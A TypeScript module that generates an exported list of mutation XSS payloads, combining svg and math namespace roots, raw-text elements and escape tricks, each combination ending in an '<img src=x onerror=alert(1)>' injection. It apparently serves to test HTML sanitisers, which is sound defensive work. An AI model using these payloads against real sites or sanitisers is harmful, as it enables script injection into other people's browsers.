/**
 * Mutation XSS: markup that a browser reads otherwise when it reads its own serialisation again. All techniques known
 * from the test suites of sanitisers are combined: a foreign namespace, a way back into HTML, an element whose text is
 * raw in one of the two, a way out of it.
 */
const img = "<img src=x onerror=alert(1)>";
const escaped = "&lt;img src=x onerror=alert(1)&gt;";

const roots = [
  "<svg>",
  "<math>",
  "<math><mtext>",
  "<math><mi>",
  "<math><mtext><table><mglyph>",
  "<math><mtext><malignmark>",
  '<math><annotation-xml encoding="text/html">',
  "<svg><foreignObject>",
  "<svg><desc>",
  "<svg></p>",
  "<form><math><mtext></form><form>",
  "<table><caption><svg>",
  "<select><svg>",
  "<template><svg>",
  "<b><p><svg>",
  "",
];
const rawElements = "style title textarea noscript xmp iframe noembed noframes script template option".split(" ");
const waysOut: ((raw: string) => string)[] = [
  (raw) => `</${raw}>${img}`,
  (raw) => `<!--</${raw}>${img}-->`,
  (raw) => `<a title="</${raw}>${img}">x</a>`,
  (raw) => `<a id="--&gt;</${raw}>${escaped}">`,
  (raw) => `<![CDATA[</${raw}>${img}]]>`,
  (raw) => `<p x="</${raw}><!--">${img}--></p>`,
];

/** Every combination, each different from all others. */
export const mutationPayloads: readonly string[] = roots.flatMap((root) =>
  rawElements.flatMap((raw) => waysOut.map((wayOut) => `${root}<${raw}>${wayOut(raw)}`)),
);
